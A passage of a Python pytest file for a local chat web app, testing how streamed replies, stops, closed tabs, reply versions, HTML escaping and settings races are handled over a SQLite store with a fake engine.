"""The chat page's logic without a browser: replies streaming into their own conversations
(app/chat/live.py) and what the page shows of a conversation (app/chat/view.py), over a real SQLite store
and a stand-in engine stream."""

from __future__ import annotations

import asyncio
import json
import re
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest

from minisgl_app.chat import live, view
from minisgl_app.chat.live import ReplyManager, Turn
from minisgl_app.chat.settings_form import SETTING_FIELDS, SettingsForm
from minisgl_app.chat.store import ConversationStore
from minisgl_app.chat.view import (
    can_continue,
    engine_messages,
    focus_of,
    sidebar_choices,
    split_thinking,
    versions_label,
    view_messages,
)
from minisgl_engine.messages import UserReply
from minisgl_engine.sampling_params import SamplingParams
from minisgl_engine.workers.frontend import GenerateRequest


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


class FakeEngine:
    """generate(request, stop): the words of the request's last message, echoed one per step,
    then finished; stops at once when ``stop`` is set. ``refuse`` makes it answer with an error."""

    def __init__(self, step_s: float = 0.01, refuse: str | None = None) -> None:
        self.step_s = step_s
        self.refuse = refuse
        self.ends_at_once = False  # the model's first token is its end (EOS): no text
        self.requests: list[GenerateRequest] = []
        self.aborted = 0

    async def generate(self, request: GenerateRequest, stop: asyncio.Event):
        self.requests.append(request)
        if self.refuse:
            yield UserReply(1, "", finished=True, finish_reason="error", error=self.refuse)
            return
        if self.ends_at_once:
            await asyncio.sleep(self.step_s)
            yield UserReply(1, "", finished=True, finish_reason="stop", completion_tokens=1)
            return
        words = f"echo: {request.messages[-1]['content']}".split()
        for i, word in enumerate(words):
            if stop.is_set():
                self.aborted += 1
                return
            await asyncio.sleep(self.step_s)
            last = i == len(words) - 1
            yield UserReply(
                1,
                word + ("" if last else " "),
                finished=last,
                finish_reason="stop" if last else None,
                completion_tokens=i + 1,
            )


@pytest.fixture
def store(tmp_path):
    with ConversationStore(tmp_path / "chats.sqlite3") as s:
        yield s


def turn_for(store: ConversationStore, conv_id: int):
    def make_turn() -> Turn | None:
        conv = store.get(conv_id)
        if not conv.messages or conv.messages[-1].role != "user":
            return None
        request = GenerateRequest(
            params=SamplingParams(), messages=engine_messages(conv, conv.settings)
        )
        return Turn(request, store.append(conv_id, "assistant", "").id)

    return make_turn


async def until_idle(manager: ReplyManager, timeout: float = 5.0) -> None:
    deadline = asyncio.get_running_loop().time() + timeout
    while manager.busy_conversations():
        assert asyncio.get_running_loop().time() < deadline, "replies did not end"
        await asyncio.sleep(0.01)


def draft_in(answer) -> str:
    """The draft a click that shows another chat puts in the page's message box (ChatPage.draft_for_box)."""
    return json.loads(answer)["draft"]


def texts(store: ConversationStore, conv_id: int) -> list[tuple[str, str]]:
    return [(m.role, m.content) for m in store.get(conv_id).messages]


@pytest.mark.anyio
async def test_two_conversations_stream_into_their_own_messages(store):
    engine = FakeEngine()
    manager = ReplyManager(store, engine.generate)
    a, b = store.create("a").id, store.create("b").id
    store.append(a, "user", "apples are red")
    store.append(b, "user", "bananas are yellow and long")
    manager.submit(a, "tab", turn_for(store, a))
    manager.submit(b, "tab", turn_for(store, b))
    assert manager.busy_conversations() == {a, b}
    await until_idle(manager)
    assert texts(store, a)[-1] == ("assistant", "echo: apples are red")
    assert texts(store, b)[-1] == ("assistant", "echo: bananas are yellow and long")
    stats = store.get(a).messages[-1].stats
    assert stats.finish_reason == "stop" and not stats.stopped and stats.tokens == 4


@pytest.mark.anyio
async def test_a_message_sent_while_the_chat_replies_is_answered_after_it(store):
    engine = FakeEngine(step_s=0.02)
    manager = ReplyManager(store, engine.generate)
    c = store.create().id
    store.append(c, "user", "first question here")
    manager.submit(c, "tab", turn_for(store, c))
    await asyncio.sleep(0.03)
    store.append(c, "user", "second")  # stored (and shown) at once, below the streaming reply
    manager.submit(c, "tab", turn_for(store, c))
    assert manager.is_busy(c) and len(manager.queued[c]) == 1
    await until_idle(manager)
    assert texts(store, c) == [
        ("user", "first question here"),
        ("assistant", "echo: first question here"),
        ("user", "second"),
        ("assistant", "echo: second"),
    ]
    assert engine.requests[1].messages[-3:] == [
        {"role": "user", "content": "first question here"},
        {"role": "assistant", "content": "echo: first question here"},
        {"role": "user", "content": "second"},
    ]


@pytest.mark.anyio
async def test_stop_keeps_the_partial_reply_marked_stopped(store):
    engine = FakeEngine(step_s=0.05)
    manager = ReplyManager(store, engine.generate)
    c = store.create().id
    store.append(c, "user", " ".join(["word"] * 50))
    manager.submit(c, "tab", turn_for(store, c))
    await asyncio.sleep(0.2)
    assert manager.stop(c)
    await until_idle(manager)
    reply = store.get(c).messages[-1]
    assert reply.content.startswith("echo:") and len(reply.content.split()) < 50
    assert reply.stats.stopped and reply.stats.finish_reason is None
    assert reply.stats.summary().endswith(" · stopped"), (
        reply.stats.summary()
    )  # by its Stop: "stopped", no reason
    assert engine.aborted == 1


@pytest.mark.anyio
async def test_a_closed_tab_stops_its_replies_unless_a_page_shows_them_again(store, monkeypatch):
    monkeypatch.setattr(live, "ORPHAN_GRACE_S", 0.1)
    engine = FakeEngine(step_s=0.05)
    manager = ReplyManager(store, engine.generate)
    kept, dropped = store.create().id, store.create().id
    for c in (kept, dropped):
        store.append(c, "user", " ".join(["w"] * 20))
        manager.page_seen("old-tab", c)
        manager.submit(c, "old-tab", turn_for(store, c))
    store.append(dropped, "user", "and this")  # sent while it replied: waits its turn
    manager.submit(dropped, "old-tab", turn_for(store, dropped))
    assert (
        view_messages(store.get(dropped), busy=True)[-1].shown["metadata"]["title"]
        == view.WAITING_LINE
    )
    manager.page_gone("old-tab")
    manager.page_seen("reloaded-tab", kept)  # the reloaded page shows one of them: it adopts it
    await asyncio.sleep(0.3)
    assert manager.is_busy(kept) and not manager.is_busy(dropped)
    cut = store.get(dropped).messages[-2].stats
    assert cut.stopped and cut.stopped_by == live.TAB_CLOSED  # said apart from a Stop
    assert cut.summary().endswith("stopped (the tab closed)"), cut.summary()
    assert (
        view.ending(store.get(dropped).messages[-2], False)
        == "Stopped before the end (the tab closed)."
    )
    # the waiting message was not answered: the chat says so under it, where ↻ shows
    line = view_messages(store.get(dropped), busy=manager.is_busy(dropped))[-1]
    assert (
        line.shown["role"] == "assistant"
        and line.shown["metadata"]["title"] == view.UNANSWERED_LINE
    )
    assert line.source.content == "and this"
    await until_idle(manager)
    assert store.get(kept).messages[-1].stats.finish_reason == "stop"
    manager.submit(
        dropped, "new-tab", turn_for(store, dropped)
    )  # what ↻ does for it (ChatPage.regenerate)
    await until_idle(manager)
    assert texts(store, dropped)[-2:] == [("user", "and this"), ("assistant", "echo: and this")]
    assert view_messages(store.get(dropped))[-1].shown["metadata"]["title"] != view.UNANSWERED_LINE


@pytest.mark.anyio
async def test_a_refused_turn_shows_why_and_is_left_out_of_the_next_request(store):
    engine = FakeEngine(
        refuse="the prompt is 9000 tokens long but the model's context is 8192 tokens; shorten it"
    )
    manager = ReplyManager(store, engine.generate)
    c = store.create().id
    store.append(c, "user", "hello " * 9000)
    manager.submit(c, "tab", turn_for(store, c))
    await until_idle(manager)
    conv = store.get(c)
    assert conv.messages[-1].content.startswith("⚠️ the prompt is 9000 tokens")
    shown = view_messages(conv)
    assert [v.shown["role"] for v in shown] == [
        "user",
        "assistant",
    ]  # no stats line under a refusal
    store.append(c, "user", "What is the capital of France?")
    assert engine_messages(store.get(c), conv.settings) == [
        {"role": "user", "content": "What is the capital of France?"}
    ]


def test_stats_are_a_line_of_their_own_and_never_in_the_reply_text(store):
    c = store.create().id
    store.append(c, "user", "hi")
    store.append(
        c,
        "assistant",
        "Hello **there**",
        stats={"ttft_ms": 120.0, "tok_s": 31.5, "tokens": 12, "finish_reason": "stop"},
    )
    shown = [v.shown for v in view_messages(store.get(c))]
    assert shown[1] == {"role": "assistant", "content": "Hello **there**"}
    assert (
        "tok/s" in shown[2]["metadata"]["title"]
        and "0.12 s to first token" in shown[2]["metadata"]["title"]
    )
    assert "<" not in shown[1]["content"]


def test_the_live_text_replaces_the_stored_copy_while_streaming(store):
    c = store.create().id
    store.append(c, "user", "hi")
    reply = store.append(c, "assistant", "Hel")
    streaming = live.LiveReply(c, reply.id, "tab", text="Hello wor")
    shown = [v.shown for v in view_messages(store.get(c), streaming)]
    assert shown[1]["content"] == "Hello wor" and shown[2]["metadata"]["title"] == "replying…"


def test_a_reply_with_no_words_yet_is_only_its_line_not_an_empty_bubble(store):
    c = store.create().id
    store.append(c, "user", "hi")
    reply = store.append(c, "assistant", "")
    waiting = live.LiveReply(c, reply.id, "tab")  # its first token not out yet
    assert [
        v.shown.get("metadata", {}).get("title") for v in view_messages(store.get(c), waiting)
    ] == [None, "replying…"]
    store.update_message(
        reply.id, "", {"tokens": 0, "stopped": True}
    )  # stopped before its first word
    shown = view_messages(store.get(c))
    assert [(v.shown["role"], v.is_line) for v in shown] == [("user", False), ("assistant", True)]
    assert "stopped" in shown[1].shown["metadata"]["title"] and shown[1].source.id == reply.id


def test_thinking_is_a_line_of_its_own_and_indexes_match_the_page(store):
    """A reasoning model's <think> block shows as a collapsed line above the answer; view_messages
    makes that split itself, so an index the page sends (a click, an edit) names the right message."""
    c = store.create().id
    store.append(c, "user", "2+2?")
    reply = store.append(
        c,
        "assistant",
        "<think>\nAdd them.\n</think>\n\nIt is **4**.",
        stats={"tokens": 9, "finish_reason": "stop"},
    )
    follow = store.append(c, "user", "and 3+3?")
    shown = view_messages(store.get(c))
    assert [(v.shown["content"], v.shown.get("metadata", {}).get("title")) for v in shown] == [
        ("2+2?", None),
        ("Add them.", "Thought"),
        ("It is **4**.", None),
        ("The model finished its answer.", "9 tokens"),
        ("and 3+3?", None),
        (view.UNANSWERED_HINT, view.UNANSWERED_LINE),
    ]  # nothing answers it here (not busy)
    assert [v.source.id for v in shown][1:] == [reply.id, reply.id, reply.id, follow.id, follow.id]
    assert [v.is_line for v in shown] == [False, True, False, True, False, True]
    # streaming: the block is still open
    streaming = live.LiveReply(c, reply.id, "tab", text="<think>\nAdd")
    lines = [
        (v.shown["content"][:9], v.shown.get("metadata", {}).get("title"))
        for v in view_messages(store.get(c), streaming)
    ]
    assert lines[1:3] == [("Add", "Thinking…"), ("The reply", "replying…")]
    # the chat template opened the block: only the closing tag is in the reply
    assert split_thinking("Add them.</think>Four.") == [
        ("Add them.", True, False),
        ("Four.", False, False),
    ]
    assert split_thinking("no tags, kept as is \n") == [("no tags, kept as is \n", False, False)]
    assert split_thinking("<think></think>Four.") == [("Four.", False, False)]


def test_versions_show_under_messages_and_focus_the_deepest(store):
    c = store.create().id
    q = store.append(c, "user", "question")
    store.append(c, "assistant", "first answer", stats={"tokens": 2, "finish_reason": "stop"})
    store.add_message(
        c, q.id, "assistant", "second answer", stats={"tokens": 2, "finish_reason": "stop"}
    )
    conv = store.get(c)
    lines = [v.shown["metadata"]["title"] for v in view_messages(conv) if "metadata" in v.shown]
    assert lines == ["version 2/2 · 2 tokens"]
    focus = focus_of(conv, None)
    assert (
        focus.content == "second answer"
        and versions_label(conv, focus) == "Reply 1: version 2 of 2"
    )
    assert focus_of(conv, q.id).id == q.id  # a clicked message wins
    conv = store.switch_version(c, focus.id, -1)
    assert conv.messages[-1].content == "first answer"


def test_the_versions_bar_offers_only_the_steps_there_are(store):
    """‹ › stayed pressable at the first and last version, and a message with no other version
    read "version 1 of 1" between two dead buttons: ‹ › show for a message with other versions,
    each pressable only towards one; a message alone is named without a version (Delete stays)."""
    from minisgl_app.chat.view import version_steps

    c = store.create().id
    q = store.append(c, "user", "question")
    store.append(c, "assistant", "first answer", stats={"tokens": 1, "finish_reason": "stop"})
    middle = store.add_message(
        c, q.id, "assistant", "second answer", stats={"tokens": 2, "finish_reason": "stop"}
    )
    store.add_message(
        c, q.id, "assistant", "third answer", stats={"tokens": 2, "finish_reason": "stop"}
    )
    conv = store.get(c)
    assert version_steps(focus_of(conv, None)) == (True, False)  # the last version: › goes nowhere
    assert version_steps(focus_of(store.select_message(c, middle.id), None)) == (True, True)
    conv = store.switch_version(c, middle.id, -1)
    assert version_steps(focus_of(conv, None)) == (False, True)  # the first: ‹ goes nowhere
    assert (
        version_steps(focus_of(conv, q.id)) == (None, None)
        and versions_label(conv, focus_of(conv, q.id)) == "Your message 1"
    )
    assert version_steps(None) == (None, None)


def test_one_token_message_and_character_are_said_in_the_singular(store):
    """The line under a one-token reply read "1 tokens"; so did an import's and an attachment's counts."""
    from minisgl_app.chat.composing import attachments_line

    c = store.create().id
    store.append(c, "user", "question")
    store.append(c, "assistant", "Hi", stats={"tokens": 1, "finish_reason": "stop"})
    lines = [
        v.shown["metadata"]["title"] for v in view_messages(store.get(c)) if "metadata" in v.shown
    ]
    assert lines == ["1 token"], lines
    assert (
        attachments_line([("a.txt", "x"), ("b.txt", "yz")])
        == "Attached to your next message: `a.txt` (1 character), `b.txt` (2 characters)"
    )


def test_versions_bar_leaves_an_earlier_turn_once_a_new_message_is_sent(store):
    c = store.create().id
    q = store.append(c, "user", "question")
    store.append(c, "assistant", "first answer", stats={"tokens": 2, "finish_reason": "stop"})
    second = store.add_message(
        c, q.id, "assistant", "second answer", stats={"tokens": 2, "finish_reason": "stop"}
    )
    store.append(c, "user", "a new question")
    conv = store.get(c)
    assert focus_of(conv, None) is None, "the bar still names Reply 1 under a new question"
    assert (
        focus_of(conv, second.id).id == second.id
    )  # clicked, the earlier reply's versions show again
    store.append(c, "assistant", "its answer", stats={"tokens": 2, "finish_reason": "stop"})
    assert focus_of(store.get(c), None) is None


def test_only_a_stopped_or_cut_reply_can_be_continued(store):
    c = store.create().id
    store.append(c, "user", "q")
    reply = store.append(c, "assistant", "partial", stats={"tokens": 8, "finish_reason": "length"})
    assert can_continue(store.get(c))
    store.update_message(reply.id, "done", stats={"tokens": 8, "finish_reason": "stop"})
    assert not can_continue(store.get(c))
    store.update_message(reply.id, "stopped", stats={"tokens": 3, "stopped": True})
    assert can_continue(store.get(c))
    assert not can_continue(None)


def test_html_in_a_message_is_marked_to_show_as_typed_and_edits_come_back_unmarked(store):
    """The page renders messages as Markdown, which lets HTML through: a word joiner after each
    "<" that would open a tag (or "&" an entity) shows it as text; code and $$ math are left as
    they are (Markdown shows them literally); the text the model sees and an edit are unmarked."""
    from minisgl_app.chat.composing import edit_text
    from minisgl_app.chat.view import MARK, shown_literally, typed_text

    question = "<div>hello</div> and a <b> c, AT&amp;T, a < b"
    answer = "Use the <style> tag and `<p>`:\n\n```html\n<div>code</div>\n```\n\n$$a<b$$ <https://example.com>"
    conv = store.create(title="html")
    store.append(conv.id, "user", question)
    store.append(conv.id, "assistant", answer)
    shown = [v.shown["content"] for v in view_messages(store.get(conv.id))]
    assert shown[0] == f"<{MARK}div>hello<{MARK}/div> and a <{MARK}b> c, AT&{MARK}amp;T, a < b"
    assert shown[1] == answer.replace(
        "<style>", f"<{MARK}style>"
    )  # code, math and the autolink as they are
    assert [typed_text(x) for x in shown[:2]] == [question, answer]
    assert (
        engine_messages(store.get(conv.id), store.get(conv.id).settings)[-2]["content"] == question
    )
    assert (
        edit_text(shown[0]) == question
        and edit_text([{"type": "text", "text": shown[0]}]) == question
    )
    assert (
        shown_literally("```\nunclosed <b>") == "```\nunclosed <b>"
        and shown_literally("~~~\n<b>\n~~~\n<i>") == f"~~~\n<b>\n~~~\n<{MARK}i>"
    )


def test_numbered_lines_keep_the_numbers_written_and_come_back_as_typed():
    """Markdown numbers a list's items from its first: an item numbered otherwise than the one
    before it plus one starts a list of its own (view.LIST_BREAK before it); an item that follows
    on, a list ended already, another delimiter and code are left alone."""
    from minisgl_app.chat.view import LIST_BREAK, numbered_as_written, shown_literally, typed_text

    cut = f"\n\n{LIST_BREAK}\n\n"
    assert numbered_as_written("1. a\n2. b\n249. c\n250. d") == f"1. a\n2. b{cut}249. c\n250. d"
    assert numbered_as_written("- x\n  1. a\n  5. b") == f"- x\n  1. a\n\n  {LIST_BREAK}\n\n  5. b"
    assert numbered_as_written("1. a\n\n   more of a\n\n5. b").endswith(f"{LIST_BREAK}\n\n5. b")
    for kept in (
        "1. a\n2. b\n3. c",
        "1. a\n\nA paragraph ends the list.\n\n7. b",
        "1) a\n3. b\n5) c",
        "1. a\n```\n1. x\n7. y\n```\n9. z",
        "    1. code\n    5. code",
        "Intro\n249. c",
    ):
        assert numbered_as_written(kept) == kept, kept
    for text in ("1. a\n2. b\n249. <b>c</b>\n250. d", "- x\n  1. a\n  5. b\n- y"):
        assert typed_text(shown_literally(text)) == text


def test_sidebar_marks_replying_chats_and_dates(store):
    a, b = store.create("alpha").id, store.create("beta").id
    now = datetime.fromtimestamp(store.get(b).updated_at)
    labels = dict((cid, label) for label, cid in sidebar_choices(store.list(), {a}, now))
    assert labels[a].startswith("● alpha · ") and labels[b].startswith("beta · ")
    assert labels[b].endswith(now.strftime("%H:%M"))


def test_gradio_queue_polls_every_20_ms_not_every_millisecond() -> None:
    """An idle app's CPU: Gradio's queue polled every 1 ms (~7% of a core, measured). quiet_queue
    sets the poll on the queue mounting keeps; a Gradio that renamed the attribute fails here."""
    import gradio as gr
    from fastapi import FastAPI

    from minisgl_app.page.gradio_patches import QUEUE_POLL_S, quiet_queue

    with gr.Blocks() as demo:
        gr.Markdown("x")
    demo.queue(default_concurrency_limit=None)
    assert demo._queue.sleep_when_free < QUEUE_POLL_S  # Gradio's own default
    quiet_queue(demo)
    gr.mount_gradio_app(FastAPI(), demo, path="/")
    assert demo._queue.sleep_when_free == QUEUE_POLL_S
    assert demo._queue.progress_update_sleep_when_free >= QUEUE_POLL_S


class FakeClient:
    """A ReplySource (app/chat/reply_source.py): what ChatPage reads of where replies come from."""

    label = "This machine"

    def __init__(self, engine: FakeEngine, model_name: str = "fake") -> None:
        self.generate = engine.generate
        self.ready = True
        self.supports_thinking = False
        self.model_name = model_name

    @property
    def backends(self) -> dict:
        return {"local": self}

    def status_line(self) -> str:
        return f"**Ready** · {self.model_name}"


class FakeRequest:
    session_hash = "tab-1"


# system prompt, temperature, top-p, max tokens, thinking, top-k, seed, stop, repetition penalty (the page's default)
SETTINGS = SettingsForm(
    system_prompt="",
    temperature=0.0,
    top_p=1.0,
    max_tokens=64,
    thinking=False,
    top_k=0,
    seed=None,
    stop="",
    repetition_penalty=1.15,
)


def uploaded(page, file) -> str:
    """``file`` as Gradio's upload route leaves it for an event: a copy in the page's uploads
    folder (a folder of its own per page here), listed as uploaded (the page deletes it once read)."""
    import shutil
    import tempfile

    from minisgl_app.chat.uploads import Uploads, upload_folder

    if page.uploads.folder == upload_folder():
        page.uploads = Uploads(Path(tempfile.mkdtemp(prefix="uploads-", dir=file.parent)))
    folder = Path(tempfile.mkdtemp(dir=page.uploads.folder))  # Gradio: one folder per upload
    copy = folder / file.name
    shutil.copyfile(file, copy)
    page.uploads.stored.add(str(copy))
    return str(copy)


@pytest.mark.anyio
async def test_a_tab_silent_for_long_is_closed_by_another_tabs_tick(store, monkeypatch) -> None:
    """Without Gradio's heartbeat stream (it held a connection per tab: a seventh tab never
    loaded), a tab that went without its beacon (its browser crashed, or froze it) is known by
    its silence: no event of it for TAB_SILENT_S. Another tab's tick closes it: its reply stops
    as a closed tab's, its state goes; the ticking tab is kept."""
    from minisgl_app.page import tabs
    from minisgl_app.page.ui import ChatPage

    monkeypatch.setattr(live, "ORPHAN_GRACE_S", 0.05)
    monkeypatch.setattr(tabs, "TAB_SILENT_S", 0.2)
    page = ChatPage(FakeClient(FakeEngine(step_s=0.05)), store)
    gone, ticking = FakeRequest(), FakeRequest()
    ticking.session_hash = "tab-2"
    await page.send(" ".join(["w"] * 200), SETTINGS, 1000.0, gone)
    conv_id = page.tab(gone).conv_id
    assert page.replies.is_busy(conv_id)
    for _ in range(4):  # only the other tab's events come
        await page.tick(False, ticking)
        await asyncio.sleep(0.1)
    await until_idle(page.replies)
    assert set(page.tabs) == {"tab-2"}, set(page.tabs)
    assert store.get(conv_id).messages[-1].stats.stopped_by == live.TAB_CLOSED


@pytest.mark.anyio
async def test_an_event_answered_after_its_tabs_beacon_does_not_bring_the_tab_back(
    store, monkeypatch
) -> None:
    """A tab's tick sent just before the tab closed may be answered after its beacon (Gradio runs
    a queued event a moment after taking it): it made the tab anew and counted as its page seen,
    so the reply the tab left streaming went on until the tab's silence was noticed, minutes
    later (the browser test closing a tab mid-reply, now and then). A tab that said it went is
    gone for good: its late events bring it back nowhere, its reply stops after the grace, and
    so does one that a Send answered after the beacon starts."""
    from minisgl_app.page.ui import ChatPage

    monkeypatch.setattr(live, "ORPHAN_GRACE_S", 0.05)
    page = ChatPage(FakeClient(FakeEngine(step_s=0.05)), store)  # 200 words: 10 s unstopped
    request = FakeRequest()
    await page.send(" ".join(["w"] * 200), SETTINGS, 1000.0, request)
    conv_id = page.tab(request).conv_id
    assert page.replies.is_busy(conv_id)
    page.tab_closed(request.session_hash)  # its beacon
    await page.tick(False, request)  # its last tick, answered after the beacon
    await until_idle(page.replies)
    assert request.session_hash not in page.tabs, "a late tick brought the closed tab back"
    assert store.get(conv_id).messages[-1].stats.stopped_by == live.TAB_CLOSED
    await page.send(" ".join(["v"] * 200), SETTINGS, 2000.0, request)  # a late Send
    assert page.replies.busy_conversations()
    await until_idle(page.replies)
    assert not page.tabs
    assert all(
        c.messages[-1].stats.stopped_by == live.TAB_CLOSED
        for c in map(store.get, (h.id for h in store.list()))
    )


@pytest.mark.anyio
async def test_stop_that_reaches_the_server_before_its_message_stops_that_reply(store) -> None:
    """Enter then Stop at once: Gradio may start the two events in either order. Both carry the
    browser's click time: a Stop that found nothing to stop stops a message clicked before it,
    never one clicked after it (Stop as a reply ends, then the next message: it is answered)."""
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine(step_s=0.05)
    page = ChatPage(FakeClient(engine), store)
    await page.stop(
        2000.0, FakeRequest()
    )  # nothing to stop yet: the message clicked at 1000 is on its way
    await page.send("one two three four five six seven eight", SETTINGS, 1000.0, FakeRequest())
    conv_id = page.tab(FakeRequest()).conv_id
    await until_idle(page.replies)
    [_, reply] = store.get(conv_id).messages
    assert reply.stats.stopped and reply.content == "", reply  # stopped before its first word
    # Stop clicked when nothing replies (the reply had just ended), then a message: answered
    await page.stop(3000.0, FakeRequest())
    await page.send("alpha beta", SETTINGS, 3500.0, FakeRequest())
    await until_idle(page.replies)
    assert store.get(conv_id).messages[-1].content == "echo: alpha beta"
    # a Stop that stopped a reply: the message after it is answered in full
    await page.send("gamma delta epsilon zeta eta theta", SETTINGS, 4000.0, FakeRequest())
    await asyncio.sleep(0.06)
    await page.stop(4500.0, FakeRequest())
    await page.send("again", SETTINGS, 5000.0, FakeRequest())
    await until_idle(page.replies)
    assert store.get(conv_id).messages[-1].content == "echo: again"


@pytest.mark.anyio
async def test_a_double_click_sends_once_whichever_of_its_two_sends_starts_first(store) -> None:
    """A double click on Send (or a double Enter) is two sends of one text; under load Gradio
    may start the later click's first (seen in CI: the message was stored twice). Either order
    stores it once; the same text a second later is a new message."""
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine()
    page = ChatPage(FakeClient(engine), store)
    await page.send(
        "numbat note", SETTINGS, 1250.0, FakeRequest()
    )  # the second click, started first
    await page.send("numbat note", SETTINGS, 1000.0, FakeRequest())
    await until_idle(page.replies)
    conv_id = page.tab(FakeRequest()).conv_id
    assert [m.content for m in store.get(conv_id).messages if m.role == "user"] == ["numbat note"]
    await page.send("numbat note", SETTINGS, 2500.0, FakeRequest())  # sent again on purpose
    await until_idle(page.replies)
    assert [m.content for m in store.get(conv_id).messages if m.role == "user"] == [
        "numbat note"
    ] * 2


@pytest.mark.anyio
async def test_the_pages_repetition_penalty_is_a_chat_setting_that_reaches_the_engine(
    store,
) -> None:
    """The page's default penalty (the demo model loops without one) goes with every reply; a
    chat's own value replaces it; the OpenAI API's default stays 1 (off)."""
    from minisgl_app.chat.settings_form import form_settings
    from minisgl_app.chat.store import DEFAULT_REPETITION_PENALTY, ChatSettings
    from minisgl_app.page.ui import ChatPage

    assert DEFAULT_REPETITION_PENALTY > 1.0 and SamplingParams().repetition_penalty == 1.0
    engine = FakeEngine()
    page = ChatPage(FakeClient(engine), store)
    assert SETTINGS.repetition_penalty == DEFAULT_REPETITION_PENALTY
    await page.send("hello there", SETTINGS, None, FakeRequest())
    await until_idle(page.replies)
    assert engine.requests[-1].params.repetition_penalty == DEFAULT_REPETITION_PENALTY
    conv_id = page.tab(FakeRequest()).conv_id
    await page.settings_changed(replace(SETTINGS, repetition_penalty=1.3), None, FakeRequest())
    assert (
        store.get(conv_id).settings.repetition_penalty == 1.3
        and page.fields(page.tab(FakeRequest()))[1 + SETTING_FIELDS.index("repetition_penalty")]
        == 1.3
    )
    await page.send("again", replace(SETTINGS, repetition_penalty=1.3), None, FakeRequest())
    await until_idle(page.replies)
    assert engine.requests[-1].params.repetition_penalty == 1.3
    # out of the page's range: refused with a sentence, the value in force put back
    assert (
        "between 1 (off) and 2"
        in form_settings(replace(SETTINGS, repetition_penalty=0.5))[1]["repetition_penalty"]
    )
    assert (
        await page.settings_changed(replace(SETTINGS, repetition_penalty=3), None, FakeRequest())
    )[SETTING_FIELDS.index("repetition_penalty")] == 1.3
    # a chat stored before the setting existed takes the page's default
    assert (
        ChatSettings.from_dict({"temperature": 0.5}).repetition_penalty
        == DEFAULT_REPETITION_PENALTY
    )


@pytest.mark.anyio
async def test_a_settings_box_left_by_a_click_on_another_chat_is_saved_to_the_chat_it_showed(
    store,
) -> None:
    """A box is saved when left, and a click on another chat (or New chat) leaves it: the box's
    save and the click reach the server in either order. Both carry the browser's click time,
    so the value goes to the chat the box showed, never to the one shown next."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    a, b = store.create(title="a").id, store.create(title="b").id
    default = store.get(b).settings.max_tokens

    def form(max_tokens: int) -> SettingsForm:
        return SettingsForm("", 0.0, 1.0, max_tokens, False, 0, None, "", 1.0)

    await page.select(a, 1000.0, request)
    await page.select(b, 2000.0, request)  # the click on chat B, handled first
    assert await page.settings_changed(form(77), 1990.0, request) == (SKIP,) * len(
        SETTING_FIELDS
    )  # A's box, left by that click
    assert (store.get(a).settings.max_tokens, store.get(b).settings.max_tokens) == (77, default)
    await page.settings_changed(form(88), 2500.0, request)  # a box of B, left later
    assert (store.get(a).settings.max_tokens, store.get(b).settings.max_tokens) == (77, 88)
    # a refused value in a box left by the click: not saved anywhere (the toast says why)
    await page.select(a, 3000.0, request)
    await page.settings_changed(form(0), 3000.0, request)
    assert (store.get(a).settings.max_tokens, store.get(b).settings.max_tokens) == (77, 88)
    # a new chat's box left by a click on a chat: the new chat was never sent, nothing is kept
    await page.new_chat(4000.0, request)
    await page.select(b, 5000.0, request)
    await page.settings_changed(form(99), 4999.0, request)
    assert (store.get(a).settings.max_tokens, store.get(b).settings.max_tokens) == (77, 88)
    # a stamp-less caller saves into the chat shown
    await page.settings_changed(form(111), None, request)
    assert store.get(b).settings.max_tokens == 111


@pytest.mark.anyio
async def test_a_message_sent_before_a_clicks_answer_saves_none_of_the_settings_boxes_of_the_chat_left(
    store, tmp_path
) -> None:
    """Enter before the answer to a click on chat B came: the page's settings boxes still showed
    chat A's, and Send saved them into B (B's system prompt became A's). Send now says it followed
    such a click (SEND_JS: after_click): its boxes are not saved; B's settings stand."""
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine()
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    a, b = store.create(title="chat A").id, store.create(title="chat B").id
    a_form = SettingsForm("Answer as a pirate.", 0.5, 1.0, 99, False, 0, None, "", 1.15)
    await page.select(a, 1000.0, request, "")
    await page.settings_changed(a_form, 1100.0, request)
    assert store.get(a).settings.system_prompt == "Answer as a pirate."
    b_settings = store.get(b).settings
    await page.select(b, 2000.0, request, "")
    await page.send(
        "hello B", a_form, 2100.0, request, 2000.0
    )  # A's boxes, read before the answer drew B's
    await until_idle(page.replies)
    assert texts(store, b)[0] == ("user", "hello B")
    assert store.get(b).settings == b_settings, "A's settings boxes were saved to B"
    assert engine.requests[-1].messages[0] != {"role": "system", "content": "Answer as a pirate."}
    await page.send(
        "hello again", a_form, 3000.0, request
    )  # the boxes as the page shows them: saved, as before
    await until_idle(page.replies)
    assert store.get(b).settings.system_prompt == "Answer as a pirate."
    # Enter on the box such a click emptied sends nothing, not even the files kept with the chat shown
    notes = tmp_path / "notes.txt"
    notes.write_text("kept with A's draft\n", encoding="utf-8")
    await page.select(a, 4000.0, request, "")
    await page.attach([uploaded(page, notes)], request)
    await page.select(b, 5000.0, request, "")
    await page.select(a, 6000.0, request, "")
    assert await page.send("", a_form, 6100.0, request, 6000.0) == (
        json.dumps({"at": 6100.0, "draft": ""}),
        SKIP,
    )
    await until_idle(page.replies)
    assert texts(store, a) == [] and page.tab(request).draft.attachments == [
        ("notes.txt", "kept with A's draft\n")
    ]


@pytest.mark.anyio
async def test_a_message_sent_just_before_a_click_on_another_chat_stays_the_draft_of_its_own_chat(
    store, tmp_path, monkeypatch
) -> None:
    """Enter in chat A, then at once a click on chat B (or New chat): when the server took the
    click first, A's message was stored in B, answered with B's context, and B's settings were
    overwritten by A's boxes. The send carries its browser time: a send from before the click
    sends nothing, saves no setting; its text and files stay A's draft, and a toast says so."""
    from minisgl_app.page import toasts
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine()
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    said: list[str] = []
    monkeypatch.setattr(toasts, "warn", said.append)
    notes = tmp_path / "notes.txt"
    notes.write_text("the code is plum\n", encoding="utf-8")
    a, b = store.create(title="chat A").id, store.create(title="chat B").id
    b_settings = store.get(b).settings
    a_form = SettingsForm("Answer as a pirate.", 0.5, 1.0, 99, False, 0, None, "", 1.15)
    await page.select(a, 1000.0, request)
    await page.attach([uploaded(page, notes)], request)
